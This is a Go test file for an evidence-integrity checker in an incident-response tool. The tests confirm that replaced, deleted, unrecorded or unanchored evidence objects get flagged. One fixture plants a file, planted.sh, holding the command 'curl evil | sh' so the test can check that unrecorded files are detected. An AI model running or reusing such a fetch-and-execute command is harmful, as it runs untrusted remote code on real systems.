package casecheck

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"sort"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	s3types "github.com/aws/aws-sdk-go-v2/service/s3/types"

	"github.com/irflow/irflow/tasks/audit"
	"github.com/irflow/irflow/tasks/contract"
	"github.com/irflow/irflow/tasks/finalize-case/report"
)

// bucket is an in-memory evidence bucket: key -> bytes, with irflow-sha256
// metadata as taskrt's evidence writer sets it.
type bucket map[string][]byte

func (b bucket) ListObjectsV2(_ context.Context, in *s3.ListObjectsV2Input, _ ...func(*s3.Options)) (*s3.ListObjectsV2Output, error) {
	var keys []string
	for k := range b {
		if strings.HasPrefix(k, aws.ToString(in.Prefix)) {
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	out := &s3.ListObjectsV2Output{}
	for _, k := range keys {
		out.Contents = append(out.Contents, s3types.Object{Key: aws.String(k)})
	}
	return out, nil
}

func (b bucket) GetObject(_ context.Context, in *s3.GetObjectInput, _ ...func(*s3.Options)) (*s3.GetObjectOutput, error) {
	body := b[aws.ToString(in.Key)]
	return &s3.GetObjectOutput{Body: io.NopCloser(bytes.NewReader(body)), Metadata: map[string]string{"irflow-sha256": hash(body)}}, nil
}

func hash(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// world is a finished case: one step's evidence, finalize-case's manifest,
// and the audit chain that records both.
func world(t *testing.T) (bucket, []audit.Record) {
	t.Helper()
	const pre = "s3://ev/cases/c1/"
	b := bucket{"cases/c1/meta/task.json": []byte(`{"task":1}`)}
	meta := contract.Evidence{URI: pre + "meta/task.json", SHA256: hash(b["cases/c1/meta/task.json"]), Bytes: 10}
	recs := []audit.Record{{CaseID: "c1", Seq: 1, Event: "result", Action: "capture-task-metadata", Hash: "h1",
		Detail: mustJSON(t, map[string]any{"evidence": []contract.Evidence{meta}})}}
	m := &report.Manifest{Version: report.ManifestVersion, CaseID: "c1", AuditHeadHash: "h1",
		Objects: []report.Artifact{{URI: meta.URI, SHA256: meta.SHA256, Bytes: meta.Bytes, Step: "meta"}}}
	b["cases/c1/finalize-case/manifest.json"] = m.JSON()
	mf := contract.Evidence{URI: pre + "finalize-case/manifest.json", SHA256: hash(m.JSON()), Bytes: int64(len(m.JSON()))}
	recs = append(recs, audit.Record{CaseID: "c1", Seq: 2, Event: "result", Action: "finalize-case", Hash: "h2",
		Detail: mustJSON(t, map[string]any{"evidence": []contract.Evidence{mf}, "outputs": map[string]any{"manifest": mf.URI}})})
	return b, recs
}

func mustJSON(t *testing.T, v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestCheck(t *testing.T) {
	b, recs := world(t)
	ev, err := Check(context.Background(), b, "ev", "c1", recs)
	if err != nil || len(ev.Problems) != 0 || len(ev.Objects) != 2 || ev.Manifest == nil {
		t.Fatalf("clean case: %v, problems %v, %d objects", err, ev.Problems, len(ev.Objects))
	}
	for _, tt := range []struct {
		name, want string
		bend       func(bucket, []audit.Record) []audit.Record
	}{
		{"replaced object", "cases/c1/meta/task.json: SHA-256", func(b bucket, r []audit.Record) []audit.Record {
			b["cases/c1/meta/task.json"] = []byte(`{"task":2}`)
			return r
		}},
		{"deleted object", "meta/task.json is recorded but not in the bucket", func(b bucket, r []audit.Record) []audit.Record {
			delete(b, "cases/c1/meta/task.json")
			return r
		}},
		{"unrecorded object", "cases/c1/planted.sh: neither the manifest nor the audit chain records it", func(b bucket, r []audit.Record) []audit.Record {
			b["cases/c1/planted.sh"] = []byte("curl evil | sh")
			return r
		}},
		{"manifest not anchored in the chain", "audit head hash", func(b bucket, r []audit.Record) []audit.Record {
			return append([]audit.Record{}, r[1]) // the record the head hash names is gone
		}},
		{"no finalize-case", "no finalize-case result with a manifest", func(b bucket, r []audit.Record) []audit.Record {
			return r[:1]
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			b, recs := world(t)
			ev, err := Check(context.Background(), b, "ev", "c1", tt.bend(b, recs))
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(strings.Join(ev.Problems, "\n"), tt.want) {
				t.Errorf("problems %q; want one saying %q", ev.Problems, tt.want)
			}
		})
	}
}
